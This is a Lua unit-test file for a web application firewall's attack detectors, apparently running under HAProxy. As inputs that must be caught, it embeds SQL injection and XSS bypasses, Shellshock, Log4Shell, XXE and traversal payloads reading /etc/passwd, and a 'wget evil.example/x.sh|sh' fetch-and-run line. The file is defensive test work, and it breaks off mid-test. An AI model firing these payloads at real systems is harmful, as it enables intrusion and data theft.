-- Unit tests of the attack detectors (lua/rampart_detect.lua) in plain Lua 5.3, outside HAProxy.
-- Usage: lua5.3 detect_test.lua path/to/rampart_detect.lua path/to/test/corpus
-- Each detector is a pure function of one decoded value; D.inspect walks the parts of a request.
-- The corpora (test/corpus) were written for these tests: ordinary values that must pass and
-- attacks of every class that must not.

core = nil
-- the engine's modules (rampart_detect_*.lua) are found next to it, as HAProxy finds them
-- through the lua-prepend-path of the configuration
local ENGINE = assert(arg[1], "usage: lua5.3 detect_test.lua <rampart_detect.lua> <corpus dir>")
package.path = (ENGINE:match("^(.*)/") or ".") .. "/?.lua;" .. package.path
local D = dofile(ENGINE)
local CORPUS = assert(arg[2], "usage: lua5.3 detect_test.lua <rampart_detect.lua> <corpus dir>")
local H = dofile((arg[0]:match("^(.*)/") or ".") .. "/harness.lua")
local show, fail, eq, truthy, falsy, test = H.show, H.fail, H.eq, H.truthy, H.falsy, H.test

-- One JSON string a line.
local function corpus(file)
  local out = {}
  for line in io.lines(CORPUS .. "/" .. file) do
    local s = D.json_strings(line)[1]
    if s then out[#out + 1] = s[2] end
  end
  return out
end

local function detector(v)
  local d = D.check(v)
  return d
end

-- A request as HAProxy hands it to the action.
local function req(t)
  t.method = t.method or "GET"
  t.path = t.path or "/"
  t.headers = t.headers or {}
  return t
end

---------------------------------------------------------------------------------------------------
-- The bypasses of issue 8: each was valid SQL or HTML that got through the old regexes
---------------------------------------------------------------------------------------------------
local BYPASSES = {
  { "UNION/*x*/SELECT 1", "sqli" }, { "1 UNION%23x%0aSELECT 1", "sqli" }, { "1 UNION/*!50000SELECT*/ 1", "sqli" },
  { "1 UNION DISTINCTROW SELECT 1", "sqli" }, { "1union select 1", "sqli" }, { "1e0union select 1", "sqli" },
  { "1'/**/OR/**/1=1--", "sqli" }, { "1' or true-- ", "sqli" }, { "' || 1=1--", "sqli" }, { "' OR 1 IN (1)--", "sqli" },
  { "1;/**/DROP/**/TABLE users", "sqli" }, { "INSERT/**/INTO users VALUES (1)", "sqli" },
  { "UPDATE/**/users/**/SET admin=1", "sqli" }, { "DELETE/**/FROM users", "sqli" },
  { "java\tscript:alert(1)", "xss" }, { "&#106;avascript:alert(1)", "xss" }, { "<img src=x onmouseover=alert(1)>", "xss" },
  { "<details open ontoggle=alert(1)>", "xss" }, { "<input autofocus onfocus=alert(1)>", "xss" },
  { "%253Cscript%253Ealert(1)%253C/script%253E", "xss" },
}

test("every bypass of issue 8 is caught by the right detector", function()
  for _, b in ipairs(BYPASSES) do eq(detector(b[1]), b[2], b[1]) end
end)

test("a payload split over a repeated parameter is caught once the values are joined", function()
  local f = D.inspect(req({ path = "/items", query = "id=1%20UNION/*&id=*/SELECT%201" }))
  truthy(f, "joined values")
  eq(f.reason, "sqli_detected", "reason")
  eq(f.location, "query:id", "location")
  falsy(D.check("*/SELECT 1"), "the second value alone")
end)

---------------------------------------------------------------------------------------------------
-- Corpora
---------------------------------------------------------------------------------------------------
test("no ordinary value is flagged (test/corpus/benign.jsonl)", function()
  local values = corpus("benign.jsonl")
  truthy(#values >= 2000, "at least 2,000 ordinary values, got " .. #values)
  local flagged = {}
  for _, v in ipairs(values) do
    local d, p, c = D.check(v)
    if d then flagged[#flagged + 1] = d .. ": " .. show(v) end
  end
  if #flagged > 0 then fail(#flagged .. " ordinary values flagged:\n         " .. table.concat(flagged, "\n         ")) end
end)

test("no ordinary file name is an executable upload (test/corpus/benign-upload-names.jsonl)", function()
  for _, v in ipairs(corpus("benign-upload-names.jsonl")) do falsy(D.upload(v), v) end
end)

-- A raw HTTP/1.1 request (one string of a request corpus) as HAProxy hands it to the action.
local function parse_request(raw)
  local head, body = raw:match("^(.-)\r\n\r\n(.*)$")
  if not head then head, body = raw, "" end
  local method, target = head:match("^(%S+)%s+(%S+)")
  assert(method, "not a request line: " .. show(head:sub(1, 80)))
  local path, query = target:match("^([^?]*)%??(.*)$")
  local headers = {}
  for name, value in head:gmatch("\r\n([^:\r\n]+):[ \t]*([^\r\n]*)") do
    name = name:lower()
    if name ~= "host" then
      local l = headers[name]
      if l then l[#l + 1] = value else headers[name] = { [0] = value } end
    end
  end
  return { method = method, path = path, query = query ~= "" and query or nil, headers = headers, body = body ~= "" and body or nil }
end

-- Ordinary traffic of the kinds found blocked on traffic the detectors were not tuned on, each
-- corpus written for these tests (test/corpus/README.md says what each holds).
for _, file in ipairs({ "benign-prose.jsonl", "benign-sql-search.jsonl", "benign-code.jsonl", "benign-telemetry.jsonl",
  "benign-tokens.jsonl" }) do
  test("no ordinary value is flagged (test/corpus/" .. file .. ")", function()
    local values = corpus(file)
    truthy(#values >= 40, file .. ": at least 40 values, got " .. #values)
    local flagged = {}
    for _, v in ipairs(values) do
      D.cache_reset()
      local d = D.check(v)
      if d then flagged[#flagged + 1] = d .. ": " .. show(v) end
    end
    if #flagged > 0 then fail(#flagged .. " ordinary values flagged:\n         " .. table.concat(flagged, "\n         ")) end
  end)
end

test("no ordinary request is refused (test/corpus/benign-requests.jsonl: beacons, playgrounds, searches, query languages)", function()
  local requests = corpus("benign-requests.jsonl")
  truthy(#requests >= 25, "at least 25 requests, got " .. #requests)
  local refused = {}
  for _, raw in ipairs(requests) do
    D.cache_reset()
    local f = D.inspect(parse_request(raw))
    if f then refused[#refused + 1] = f.reason .. " in " .. f.location .. " (" .. show(f.matched) .. "): " .. show(raw:match("^[^\r]*")) end
  end
  if #refused > 0 then fail(#refused .. " ordinary requests refused:\n         " .. table.concat(refused, "\n         ")) end
end)

test("every operator injection and prototype pollution is refused as injection (test/corpus/attacks/structure-requests.jsonl)", function()
  local requests = corpus("attacks/structure-requests.jsonl")
  truthy(#requests >= 50, "at least 50 requests, got " .. #requests)
  local missed = {}
  for _, raw in ipairs(requests) do
    D.cache_reset()
    local f = D.inspect(parse_request(raw))
    if not f or f.reason ~= "injection_detected" then
      missed[#missed + 1] = (f and f.reason or "passed") .. ": " .. show(raw:match("^[^\r]*")) .. " " .. show(raw:match("\r\n\r\n(.*)$") or "")
    end
  end
  if #missed > 0 then fail(#missed .. " not refused as injection:\n         " .. table.concat(missed, "\n         ")) end
end)

-- Attacks no detector catches yet, each with the reason; anything else in the corpora must be caught.
local KNOWN_MISSES = {
  ["1 -- comment"] = "a number then a comment is also how people write prose",
  ["; echo vulnerable"] = "echo followed by a plain word reads like text",
  ["; ps aux"] = "ps followed by a plain word reads like text",
  ["http://①②⑦.⓪.⓪.①/"] = "enclosed alphanumerics are not folded to digits",
}

for _, class in ipairs({ "sqli", "xss", "cmdi", "traversal", "ssrf", "xxe", "injection", "upload" }) do
  test("every " .. class .. " attack is caught (test/corpus/attacks/" .. class .. ".jsonl)", function()
    local values = corpus("attacks/" .. class .. ".jsonl")
    truthy(#values >= 25, "corpus size")
    local missed, own = {}, 0
    for _, v in ipairs(values) do
      local hit
      if class == "upload" then
        hit = D.upload(v) and "upload"
      else
        hit = D.check(v)
        if D[class](D.canonical(v)) then own = own + 1 end
      end
      if not hit and not KNOWN_MISSES[v] then missed[#missed + 1] = show(v) end
    end
    if #missed > 0 then fail(#missed .. " attacks missed:\n         " .. table.concat(missed, "\n         ")) end
    -- and nearly all by the detector of their own class (a few overlap: file:// is SSRF and LFI)
    if class ~= "upload" then truthy(own >= #values * 0.95, class .. " detector caught " .. own .. " of " .. #values) end
  end)
end

---------------------------------------------------------------------------------------------------
-- Decoders
---------------------------------------------------------------------------------------------------
test("decoders: percent, plus, %u, entities, string escapes, UTF-7, overlong UTF-8", function()
  eq(D.url_decode("a%20b+c", true), "a b c", "form")
  eq(D.url_decode("a+b%zz", false), "a+b%zz", "malformed escapes stay")
  eq(D.url_decode("%u003cx", false), "<x", "%u")
  eq(D.html_decode("&#x6a;&#0000106&lt;&colon;&NewLine;"), "jj<:\n", "entities, ';' optional")
  eq(D.unescape("\\u0061\\x62\\143\\u{64}"), "abcd", "escapes")
  eq(D.canonical("%253Cb%253E"), "<b>", "double encoding")
  eq(D.canonical("+ADw-script+AD4-"), "<script>", "UTF-7")
  eq(D.canonical("%c0%ae%c0%ae%c0%af"), "../", "overlong UTF-8")
  eq(D.normalize_path("/a//b/./c;jsessionid=1/%2e%2e\\d"), "/a/b/c/../d", "path")
  -- one step's output is the next one's input, in every decoder
  eq(D.url_decode("%u002541", false), "A", "%u makes a percent escape")
  eq(D.unescape("\\u005cx41"), "A", "\\u makes \\x")
  eq(D.unescape("\\x5c74"), "<", "\\x makes an octal escape")
  eq(D.unescape("\\u{5c}u0041"), "A", "\\u{...} makes \\u")
  eq(D.html_decode("&#38;lt;"), "<", "a numeric reference makes a named one")
  eq(D.html_decode(string.rep("&lt;&x;&ampy &", 100)), string.rep("<&x;&ampy &", 100), "hundreds of references, known and not")
  eq(D.url_decode("%3c%3C%Aa%zz%4", false), "<<\170%zz%4", "hex digits in either case; malformed escapes stay")
end)

---------------------------------------------------------------------------------------------------
-- Request parts: each is inspected, and the event names where
---------------------------------------------------------------------------------------------------
local XSS = "<script>alert(1)</script>"
local SQLI = "1' OR '1'='1"

local PARTS = {
  { "path", req({ path = "/search/%3Cscript%3Ealert(1)%3C%2Fscript%3E" }), "xss_detected", "path" },
  { "path traversal", req({ path = "/static/..%252f..%252fetc/passwd" }), "traversal_detected", "path" },
  { "query value", req({ query = "q=" .. XSS }), "xss_detected", "query:q" },
  { "query name", req({ query = "%3Cscript%3Ealert(1)%3C/script%3E=1" }), "xss_detected", "query:<script>alert(1)</script>" },
  { "cookie", req({ headers = { cookie = { [0] = "a=1; sid=" .. SQLI } } }), "sqli_detected", "cookie:sid" },
  { "referer query", req({ headers = { referer = { [0] = "https://x.test/p?q=%3Cscript%3Ealert(1)%3C/script%3E" } } }), "xss_detected", "header:referer" },
  { "user-agent", req({ headers = { ["user-agent"] = { [0] = "() { :; }; /bin/bash -c id" } } }), "cmdi_detected", "header:user-agent" },
  { "x-forwarded-host", req({ headers = { ["x-forwarded-host"] = { [0] = "x.test\"><script>alert(1)</script>" } } }), "xss_detected", "header:x-forwarded-host" },
  { "other header", req({ headers = { ["x-api-version"] = { [0] = "${jndi:ldap://x/a}" } } }), "injection_detected", "header:x-api-version" },
  { "form body", req({ method = "POST", headers = { ["content-type"] = { [0] = "application/x-www-form-urlencoded" } }, body = "comment=" .. XSS }), "xss_detected", "body:comment" },
  { "json body, deep", req({ method = "POST", headers = { ["content-type"] = { [0] = "application/json" } }, body = '{"a":[{"b":{"name":"1\' OR \'1\'=\'1"}}]}' }), "sqli_detected", "body:name" },
  { "json escapes", req({ method = "POST", headers = { ["content-type"] = { [0] = "application/json" } }, body = '{"c":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}' }), "xss_detected", "body:c" },
  { "multipart field", req({ method = "POST", headers = { ["content-type"] = { [0] = "multipart/form-data; boundary=XX" } },
    body = "--XX\r\nContent-Disposition: form-data; name=\"bio\"\r\n\r\n" .. XSS .. "\r\n--XX--\r\n" }), "xss_detected", "body:bio" },
  { "multipart file name", req({ method = "POST", headers = { ["content-type"] = { [0] = "multipart/form-data; boundary=XX" } },
    body = "--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\nContent-Type: image/png\r\n\r\nPNG\r\n--XX--\r\n" }), "upload_blocked", "body:f" },
  { "xml body", req({ method = "POST", headers = { ["content-type"] = { [0] = "application/xml" } },
    body = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>' }), "xxe_detected", "body" },
  { "text body", req({ method = "POST", headers = { ["content-type"] = { [0] = "text/plain" } }, body = "hello; cat /etc/passwd" }), "cmdi_detected", "body" },
}

for _, c in ipairs(PARTS) do
  test("request part: " .. c[1], function()
    local f = D.inspect(c[2])
    truthy(f, "finding")
    eq(f.reason, c[3], "reason")
    eq(f.location, c[4], "location")
    truthy(#f.matched > 0 and #f.matched <= D.MATCH_LEN, "a short excerpt: " .. show(f.matched))
  end)
end

test("an ordinary browser request passes, headers, cookies and all", function()
  falsy(D.inspect(req({
    path = "/products/shoes", query = "size=42&colour=dark+blue&q=O%27Brien%27s",
    headers = {
      ["user-agent"] = { [0] = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36" },
      accept = { [0] = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8" },
      referer = { [0] = "https://shop.example/search?q=running+shoes&page=2" },
      cookie = { [0] = "session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc; theme=dark" },
    },
  })), "ordinary request")
end)

test("a binary body is not read as text; a serialized Java object in it is", function()
  falsy(D.inspect(req({ method = "POST", headers = { ["content-type"] = { [0] = "application/octet-stream" } }, body = "\0\1\2; cat /etc/passwd" })), "binary")
  local f = D.inspect(req({ method = "POST", headers = { ["content-type"] = { [0] = "application/octet-stream" } }, body = "\172\237\0\5sr\0" }))
  eq(f and f.reason, "injection_detected", "AC ED 00 05")
end)

test("only the first BODY_LIMIT bytes of a body are read", function()
  local pad = string.rep("a", D.BODY_LIMIT)
  falsy(D.inspect(req({ method = "POST", headers = { ["content-type"] = { [0] = "text/plain" } }, body = pad .. XSS })), "past the limit")
  truthy(D.inspect(req({ method = "POST", headers = { ["content-type"] = { [0] = "text/plain" } }, body = XSS .. pad })), "within")
end)

---------------------------------------------------------------------------------------------------
-- Exceptions (waf_exception rules)
---------------------------------------------------------------------------------------------------
test("an exception lets one field of one path carry what it names, and nothing else", function()
  local ex = { { path = "/comments", loc = "body:content", det = "xss" } }
  local function post(path, body) return req({ method = "POST", path = path, headers = { ["content-type"] = { [0] = "application/x-www-form-urlencoded" } }, body = body }) end
  falsy(D.inspect(post("/comments/new", "content=" .. XSS), ex), "excepted field, path prefix")
  eq(D.inspect(post("/comments/new", "title=" .. XSS), ex).location, "body:title", "another field")
  eq(D.inspect(post("/posts", "content=" .. XSS), ex).reason, "xss_detected", "another path")
  eq(D.inspect(post("/comments", "content=" .. SQLI), ex).reason, "sqli_detected", "another detector")
end)

test("exceptions: any detector, any cookie, the whole path", function()
  local XSS_COOKIE = req({ path = "/app", headers = { cookie = { [0] = "pref=" .. XSS } } })
  falsy(D.inspect(XSS_COOKIE, { { path = "/", loc = "cookie:*" } }), "cookie:*")
  truthy(D.inspect(XSS_COOKIE, { { path = "/", loc = "query:*" } }), "query:* does not cover cookies")
  falsy(D.inspect(XSS_COOKIE, { { path = "/app" } }), "every location, every detector")
  truthy(D.inspect(XSS_COOKIE, { { path = "/application" } }), "prefix is a prefix of the request path, not the reverse")
end)

---------------------------------------------------------------------------------------------------
-- Event fields and linear cost
---------------------------------------------------------------------------------------------------
test("every code marker is recognised on its own", function()
  for _, m in ipairs(D.CODE_MARKERS) do truthy(D.injection("x." .. m), m) end
end)

test("a value found clean is remembered, an attack never is", function()
  D.cache_reset()
  local r = req({ query = "q=hello%20world", headers = { cookie = { [0] = "sid=" .. XSS } } })
  truthy(D.inspect(r), "first time")
  truthy(D.inspect(r), "second time: still refused")
end)

test("a value found clean for some detectors is read again by all of them later in the request", function()
  -- the Referer's path goes to four detectors (not cmdi); the same text as the body goes to all
  local v = "/x;wget evil.example/x.sh|sh"
  falsy(D.check(v, nil, { "xss", "sqli", "traversal", "injection" }), "clean for the Referer's detectors")
  local f = D.inspect(req({ method = "POST", headers = { referer = { [0] = "https://shop.example" .. v },
    ["content-type"] = { [0] = "text/plain" } }, body = v }))
  eq(f and f.reason, "cmdi_detected", "found in the body")
  eq(f and f.location, "body", "where")
end)

test("a value repeated in a body is read once, and an attack after it is still found", function()
  local calls, sqli = 0, D.sqli
  D.sqli = function(v) calls = calls + 1 return sqli(v) end
  local items = {}
  for i = 1, 50 do items[i] = '{"note":"see the page (then come back).","n":"' .. i .. '"}' end
  local body = "[" .. table.concat(items, ",") .. "]"
  local ok, f = pcall(D.inspect, req({ method = "POST", headers = { ["content-type"] = { [0] = "application/json" } }, body = body }))
  local clean_calls = calls
  local ok2, f2 = pcall(D.inspect, req({ method = "POST", headers = { ["content-type"] = { [0] = "application/json" } },
    body = "[" .. table.concat(items, ",") .. ',{"note":"1 union select password from users"}]' }))
  D.sqli = sqli
  truthy(ok and ok2, "no error")
  falsy(f, "the ordinary body passes")
  truthy(clean_calls < 10, "the repeated note is read once, not 50 times (" .. clean_calls .. " reads)")
  eq(f2 and f2.reason, "sqli_detected", "the attack after the repeats")
end)

test("event fields are percent-encoded without blanks, controls or '%'", function()
  eq(D.log_escape("a b%\n\"<", 64), "a%20b%25%0A\"<", "escaped")
  eq(D.log_escape("", 64), "-", "empty")
  falsy(D.log_escape(string.rep("\0 ", 100), 64):find("[%s%z]"), "no blank or NUL")
end)

-- CPU time of inspecting a request whose query value is `unit` repeated n times.
local function cost(unit, n, where)
  local v = string.rep(unit, n)
  local r
  if where == "body" then
    r = req({ method = "POST", headers = { ["content-type"] = { [0] = "application/json" } }, body = '{"k":"' .. v .. '"}' })
  elseif where == "xml" then
    r = req({ method = "POST", headers = { ["content-type"] = { [0] = "application/xml" } }, body = v })
  else
    r = req({ query = "q=" .. v })
  end
  return H.cpu_per_call(function() D.cache_reset(); D.inspect(r) end)
end

-- Inputs built to make backtracking patterns or nested loops blow up: long words without the
-- character a pattern waits for, many openers without closers, deep nesting, long comments.
local ADVERSARIAL = {
  { "a", "query" }, { "<a ", "query" }, { "<", "query" }, { "'", "query" }, { "/*", "query" }, { "((", "query" },
  { "{{", "query" }, { "${", "query" }, { "%25", "query" }, { "&#x", "query" }, { "\\u00", "query" },
  { "../", "query" }, { "; x", "query" }, { "http://a", "query" }, { "on", "query" }, { "union ", "query" },
  { "\\\"", "body" }, { "<![CDATA[", "xml" }, { "<a>", "xml" }, { "<!DOCTYPE ", "xml" }, { "script", "query" },
  { "alert", "query" }, { "javascript", "query" }, { "[", "query" }, { "$(", "query" }, { "O:1:\"", "query" },
}

test("cost stays linear in input size for adversarial inputs (fuzz)", function()
  local worst, name = 0, nil
  for _, a in ipairs(ADVERSARIAL) do
    local small = cost(a[1], 500, a[2])
    local large = cost(a[1], 4000, a[2])
    -- 8 times the input: a linear engine takes about 8 times as long; quadratic would be 64
    local ratio = large / math.max(small, 1e-7)
    if ratio > worst then worst, name = ratio, a[1] end
  end
  truthy(worst < 24, string.format("worst growth %.1fx for 8x the input (%s)", worst, show(name)))
end)

-- A run of blanks (spaces, tabs, line breaks, encoded blanks) after an opener: patterns such as
-- "^<%s*/?%s*" backtrack over it quadratically ('<' and 8,000 blanks once took 0.7 s).
test("cost stays linear on long runs of blanks after any opener", function()
  local openers = { "", "<", "</", "'", "\"", "`", "(", "${", "=", ";", "|", "&", "$(", "1", "-1", "x:", "http:", "../",
    "<a", "on", "document", "select", "@", "\\", "/*", "--", "#", "<!doctype", "\n", "t(", "java." }
  local fillers = { " ", "\t", "\n", "%20" }
  local worst, name = 0, nil
  for _, o in ipairs(openers) do
    for _, f in ipairs(fillers) do
      local function at(n)
        local v = o .. string.rep(f, n // #f) .. "x'"
        return H.cpu_per_call(function() D.cache_reset(); D.check(v) end)
      end
      local ratio = at(8000) / math.max(at(2000), 1e-7)
      if ratio > worst then worst, name = ratio, show(o) .. " + " .. show(f) end
    end
  end
  -- 4 times the input: about 4 for a linear engine, 16 for a quadratic one
  truthy(worst < 8, string.format("worst growth %.1fx for 4x the input (%s)", worst, tostring(name)))
end)

---------------------------------------------------------------------------------------------------
-- The budget of one request (D.inspect): body bytes, values, JSON depth, decoding rounds
---------------------------------------------------------------------------------------------------
local function post(ct, body) return req({ method = "POST", headers = { ["content-type"] = { [0] = ct } }, body = body }) end
local function fields(n, f) local t = {} for i = 1, n do t[i] = f(i) end return table.concat(t, "&") end
local rep = string.rep
-- The reason D.inspect gives r (nil when it passes), the clean-value cache emptied first.
local function reason(r) D.cache_reset(); local f = D.inspect(r); return f and f.reason end

-- The adversarial bodies of the budget, each at full size (k = 4) and at a quarter (k = 1).
local ADVERSARIAL_BODIES = {
  { "JSON arrays nested 10,000 deep", function(k) return post("application/json", rep("[", 2500 * k) .. rep("]", 2500 * k)) end },
  { "JSON objects nested 10,000 deep", function(k) return post("application/json", rep('{"a":', 2500 * k) .. "1" .. rep("}", 2500 * k)) end },
  { "a JSON string of 10,000 \\u escapes", function(k) return post("application/json", '{"a":"' .. rep("\\u003c", 2500 * k) .. '"}') end },
  { "5,000 form fields", function(k) return post("application/x-www-form-urlencoded", fields(1250 * k, function(i) return "f" .. i .. "=%3C" .. i end)) end },
  -- within NESTING_LIMIT and FIELDS_LIMIT, walked to the end
  { "JSON arrays nested 512 deep", function(k) return post("application/json", rep("[", 128 * k) .. rep("]", 128 * k)) end },
  { "JSON objects nested 512 deep", function(k) return post("application/json", rep('{"a":', 128 * k) .. "1" .. rep("}", 128 * k)) end },
  { "1,000 form fields", function(k) return post("application/x-www-form-urlencoded", fields(250 * k, function(i) return "f" .. i .. "=%3C" .. i end)) end },
  { "5,000 repeated form fields", function(k) return post("application/x-www-form-urlencoded", fields(1250 * k, function(i) return "a=%3C" .. i end)) end },
  { "a 64 KB multipart upload", function(k)
    local t = {}
    for i = 1, 16 * k do t[i] = string.format("%04d", i) .. rep("\0\255<a (x);'\"|", 84) .. "\n" end
    local file = table.concat(t):sub(1, 16384 * k - 200)
    return post("multipart/form-data; boundary=XX", '--XX\r\nContent-Disposition: form-data; name="f"; filename="photo.jpg"\r\nContent-Type: image/jpeg\r\n\r\n' ..
      file .. '\r\n--XX\r\nContent-Disposition: form-data; name="title"\r\n\r\nholiday\r\n--XX--\r\n')
  end },
}

-- Compressed bodies: zlib's own streams, made here (lua-zlib's deflate) so the test needs no files.
local function zstream(text, bits)
  local z = require("zlib")
  return (bits and z.deflate(9, bits) or z.deflate(9))(text, "finish")
end

-- The first reading of a compressed body (text, cut short), or nil.
local function inflate(body, coding)
  local r = D.inflations(body, coding)[1]
  if r then return r[1], r[2] end
  return nil
end

test("inflate: gzip, zlib and raw deflate bodies, read within the body budget", function()
  local body = '{"q":"1\' OR \'1\'=\'1"}'
  eq(inflate(zstream(body, 31), "gzip"), body)
  eq(inflate(zstream(body), "deflate"), body)
  eq(inflate(zstream(body, -15), "deflate"), body, "raw deflate, as some clients send it")
  eq(inflate(zstream(body, -15), "gzip"), nil, "raw deflate is no gzip stream")
  -- what inspect then finds inside
  local f = D.inspect(req({ method = "POST", path = "/api", headers = { ["content-type"] = { [0] = "application/json" } }, body = inflate(zstream(body, 31), "gzip") }))
  eq(f and f.reason, "sqli_detected")
  -- a "bomb": 20 MB of one byte stops at the budget, cut short
  local bomb = zstream('{"a":"' .. string.rep("a", 20000000) .. '"}', 31)
  truthy(#bomb < 30000, #bomb .. " bytes")
  local text, short = inflate(bomb, "gzip")
  eq(#text, D.INFLATE_LIMIT)
  eq(short, true)
  -- a stream cut by the buffer: what arrived, cut short
  local long = string.rep('{"name":"garden chair","price":19},', 400)
  local gz = zstream(long, 31)
  local part, cut = inflate(string.sub(gz, 1, #gz // 2), "gzip")
  truthy(#part > 0 and long:sub(1, #part) == part, "a prefix of the body")
  eq(cut, true)
  eq(select(2, inflate(gz, "gzip")), false, "the whole stream: not cut")
  -- unreadable: not a stream, or more after its end (a second member the application would read)
  eq(inflate("not compressed at all", "gzip"), nil)
  eq(inflate(zstream("{}", 31) .. zstream(body, 31), "gzip"), nil)
  -- deflate: a zlib stream cut short whose bytes are also a raw stream gives both readings
  local polyglot = "\120\1\0\254\255\1\0\0\0\255\255" .. zstream("&q=<script>alert(1)</script>", -15)
  local readings = D.inflations(polyglot, "deflate")
  eq(#readings, 2)
  truthy(readings[2][1]:find("<script>", 1, true), "the raw reading")
  eq(#D.inflations(polyglot, "gzip"), 1, "gzip reads it one way")
end)

test("budget: adversarial bodies cost linear time (nesting, escapes, fields, uploads)", function()
  local superlinear, report = {}, {}
  for _, c in ipairs(ADVERSARIAL_BODIES) do
    local small, full = c[2](1), c[2](4)
    local cs = H.least_cpu_per_call(function() D.cache_reset(); D.inspect(small) end)
    local cf = H.least_cpu_per_call(function() D.cache_reset(); D.inspect(full) end)
    report[#report + 1] = string.format("%s (%d bytes): %.2f ms", c[1], #full.body, cf * 1000)
    -- 4 times the input: linear work about 4 times the time, quadratic 16
    if cf > 8 * cs then superlinear[#superlinear + 1] = string.format("%s: %.2f ms at a quarter, %.2f ms at full size (x%.1f)", c[1], cs * 1000, cf * 1000, cf / cs) end
  end
  print("       " .. table.concat(report, "\n       "))
  if #superlinear > 0 then fail("cost grows faster than the input:\n         " .. table.concat(superlinear, "\n         ")) end
end)

test("budget: past VALUES_LIMIT values, the rest is inspected together (a payload behind 3,500 dummy members is found)", function()
  -- a member is two values (its key and its value); the body stays under BODY_LIMIT
  local n = D.VALUES_LIMIT // 2 + 500
  local function members(k, last) local t = {} for i = 1, k do t[i] = '"f' .. i .. '":"v' .. i .. '"' end return "{" .. table.concat(t, ",") .. "," .. last .. "}" end
  local body = members(n, '"q":"<script>alert(1)</script>"')
  D.cache_reset()
  local f = D.inspect(post("application/json", body))
  truthy(f, "finding")
  eq(f.reason, "xss_detected", "reason")
  eq(f.location, "body:*", "location: the rest of the body")
  -- within the budget the same member is named
  D.cache_reset()
  f = D.inspect(post("application/json", members(10, '"q":"<script>alert(1)</script>"')))
  eq(f and f.location, "body:q", "within the budget")
  -- an exception for every body field covers the rest too
  D.cache_reset()
  falsy(D.inspect(post("application/json", body), { { path = "/", loc = "body:*", det = "xss" } }), "body:* exception")
  -- a query past the budget and a body: each part's rest under its own location
  D.cache_reset()
  local r = post("application/x-www-form-urlencoded", "q=%3Cscript%3Ealert(1)%3C/script%3E")
  r.query = fields(n, function(i) return "f" .. i .. "=v" .. i end)
  f = D.inspect(r)
  eq(f and f.location, "body:*", "the body's rest, after the query's")
  -- ordinary values past the budget pass
  D.cache_reset()
  falsy(D.inspect(post("application/json", members(n, '"last":"O\'Brien"'))), "ordinary rest")
end)

test("budget: JSON nested past NESTING_LIMIT and forms past FIELDS_LIMIT are refused (body_too_complex); within them they are inspected", function()
  local limit = D.NESTING_LIMIT
  truthy(limit >= 256 and limit <= 1000, "a documented limit, above what parsers accept (.NET 64, serde 128, PHP 512)")
  local function arrays(depth, inner) return post("application/json", rep("[", depth) .. inner .. rep("]", depth)) end
  local function objects(depth, inner) return post("application/json", rep('{"a":', depth) .. inner .. rep("}", depth)) end
  eq(reason(arrays(limit + 1, "1")), "body_too_complex", "arrays one level past")
  eq(reason(objects(limit + 1, "1")), "body_too_complex", "objects one level past")
  eq(reason(arrays(10000, "1")), "body_too_complex", "10,000 levels")
  falsy(reason(arrays(limit, "1")), "arrays at the limit")
  falsy(reason(objects(limit, '"O\'Brien"')), "objects at the limit")
  eq(reason(objects(limit, '"<script>alert(1)</script>"')), "xss_detected", "an attack at the limit")
  -- brackets inside strings are not nesting
  falsy(reason(post("application/json", '{"a":"' .. rep("[", 2000) .. '"}')), "brackets in a string")
  -- a JSON value inside a parameter is not a body: walked to its end, an operator 600 levels deep found
  eq(reason(req({ query = "filter=" .. rep('{"a":', 600) .. '{"$where":"sleep(5000)"}' .. rep("}", 600) })), "injection_detected", "an operator deep in a query value")
  -- the event: where the walk stopped
  D.cache_reset()
  local f = D.inspect(arrays(limit + 1, "1"))
  eq(f.location, "body", "location")
  eq(f.detector, "budget", "detector")
  -- forms: more than FIELDS_LIMIT pieces between '&', as a form or as a text body read as one
  local n = D.FIELDS_LIMIT
  local form = function(k) return fields(k, function(i) return "f" .. i .. "=v" .. i end) end
  eq(reason(post("application/x-www-form-urlencoded", form(n + 1))), "body_too_complex", "a form")
  eq(reason(post("text/plain", form(n + 1))), "body_too_complex", "text read as a form")
  falsy(reason(post("application/x-www-form-urlencoded", form(n))), "a form at the limit")
  eq(reason(post("application/x-www-form-urlencoded", form(n - 1) .. "&q=%3Cscript%3Ealert(1)%3C/script%3E")), "xss_detected", "an attack at the limit")
  -- the query string is not a body: a long one is inspected to VALUES_LIMIT
  falsy(reason(req({ query = form(n + 1) })), "a query of as many")
  -- a JSON body is not a form: its '&' are characters of its strings
  falsy(reason(post("application/json", '{"a":"' .. rep("&", 2000) .. '"}')), "& in a JSON string")
  -- an exception for every detector in the body lets such a body through uninspected; one for a detector does not
  D.cache_reset()
  falsy(D.inspect(arrays(limit + 1, "1"), { { path = "/" } }), "an exception for the path")
  D.cache_reset()
  falsy(D.inspect(post("application/x-www-form-urlencoded", form(n + 1)), { { path = "/", loc = "body:*" } }), "an exception for body:*")
  D.cache_reset()
  eq((D.inspect(post("application/x-www-form-urlencoded", form(n + 1)), { { path = "/", loc = "body:*", det = "xss" } }) or {}).reason, "body_too_complex", "an exception for one detector")
end)

test("budget: JSON nested deeper than DEPTH_LIMIT is still scanned (strings inspected, __proto__ and operators after a field refused)", function()
  local deep = D.DEPTH_LIMIT + 36
  local function nest(inner) return rep('{"a":', deep) .. inner .. rep("}", deep) end
  eq(reason(post("application/json", nest('"<script>alert(1)</script>"'))), "xss_detected", "a string at depth 100")
  eq(reason(post("application/json", nest('{"__proto__":{"x":1}}'))), "injection_detected", "__proto__ at depth 100")
  eq(reason(post("application/json", nest('{"password":{"$ne":null}}'))), "injection_detected", "an operator under a field at depth 100")
  falsy(reason(post("application/json", nest('{"title":"O\'Brien"}'))), "ordinary values at depth 100")
end)

test("budget: the values of a repeated name are joined up to JOIN_LIMIT bytes", function()
  eq(reason(req({ query = "id=1%20UNION/*&id=*/SELECT%201,2" })), "sqli_detected", "joined")
  -- far past the limit, the pieces are still inspected (on their own and, past VALUES_LIMIT, with the rest)
  D.cache_reset()
  falsy(D.inspect(req({ query = rep("id=1&", 3000) .. "id=2" })), "3,000 ordinary values")
